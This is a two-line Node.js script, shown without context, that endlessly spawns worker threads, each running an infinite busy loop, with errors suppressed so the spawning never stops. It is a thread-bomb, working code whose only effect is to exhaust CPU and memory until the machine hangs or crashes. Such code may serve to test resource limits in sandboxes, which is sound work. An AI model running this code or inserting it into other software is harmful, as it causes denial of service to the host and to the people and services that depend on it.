const { Worker } = require('worker_threads');
for (;;) new Worker('for (;;);', { eval: true }).on('error', () => {});
